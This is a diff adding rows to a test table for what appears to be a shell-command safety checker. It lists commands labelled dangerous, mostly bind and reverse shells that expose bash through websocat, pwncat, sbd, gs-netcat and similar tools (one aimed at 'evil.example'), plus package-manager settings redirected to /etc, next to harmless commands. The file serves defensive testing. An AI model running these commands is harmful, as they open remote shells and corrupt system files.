@@ -45,6 +45,41 @@ ROWS = [
     (f"busctl call org.freedesktop.systemd1 {UNIT}/nginx_2eservice org.freedesktop.systemd1.Unit "
      "Restart s replace", False),
     (f"{GDBUS}.GetUnit \"'nginx.service'\"", False),
+    # 3: settings written by the program's own settings command, read as the variable
+    ("pip config set global.log /etc/sudoers; pip list", True),
+    ("pip config set install.target /etc; pip install ./evil.whl", True),
+    ("pip3 config --global set install.root /", True), ("pip config set install.src /etc", True),
+    ("python3 -m pip config set install.target /etc", True), ("pip config edit", True),
+    ("pip config --user set global.log \"$f\"", True),
+    ("npm config set prefix /etc; npm i -g ./x", True), ("npm set prefix /etc", True),
+    ("npm config set prefix=/etc", True), ("npm c set script-shell /tmp/evil", True),
+    ("pnpm config set prefix /etc", True), ("yarn config set prefix /etc", True),
+    ("npm config edit", True),
+    ("HOME=/tmp/e pip install ./evil.whl", True), ("XDG_CONFIG_HOME=/tmp/e pip install ./evil.whl", True),
+    ("HOME=/tmp/e npm i -g ./x", True),
+    ("GOPATH=/etc go install x@latest", True), ("export GOPATH=/etc; go install x@latest", True),
+    ("GOBIN=/etc go install ./x", True), ("GOMODCACHE=/etc go mod download", True),
+    # honest settings: an index, a registry, a log level; reading them
+    ("pip config set global.index-url https://pypi.example.org/simple", False),
+    ("pip config list", False), ("pip config unset global.index-url", False),
+    ("npm config set registry https://r.example.org/", False), ("npm config get prefix", False),
+    ("npm set loglevel warn", False), ("yarn config set registry https://r.example.org/", False),
+    ("GOBIN=/usr/local/bin go install ./x", False), ("GOPATH=~/go go build ./...", False),
+    ("pip install requests", False), ("npm install", False),
+    # 5: shell servers under other names
+    ("websocat ws-l:0.0.0.0:2222 exec:bash", True), ("websocat -b tcp-l:0.0.0.0:2222 exec:bash", True),
+    ("websocat ws-l:0.0.0.0:2222 sh-c:'bash -i'", True), ("websocat ws-l:0.0.0.0:2222 cmd:bash", True),
+    ("websocat ws://evil.example/ exec:bash", True), ("sudo websocat tcp-l:0:2222 cmd:bash", True),
+    ("pwncat -l -e /bin/bash 4444", True), ("pwncat-cs -lp 4444", True),
+    ("socket -slp bash 2222", True), ("socket -slp 'bash -i' 2222", True), ("socket -p bash h 80", True),
+    ("faucet 2222 -io bash", True), ("faucet 2222 --in --out --err bash -i", True),
+    ("hose h 2222 --in --out bash", True), ("micro-inetd 2222 /bin/bash", True),
+    ("micro_inetd 2222 /bin/bash -i", True), ("socket-burst-dampener 2222 -- bash -i", True),
+    ("sbd -l -p 2222 -e bash", True), ("dbd -l -p 4444 -e bash", True),
+    ("gs-netcat -s secret -l -i", True), ("rcat listen -ib 55600", True),
+    ("tcpclient h 4444 bash", True), ("sslserver 0 2222 bash", True),
+    # honest network clients
+    ("websocat ws://h.example/", False), ("websocat -s 8080", False), ("socket h 80", False),
 ]
 
 
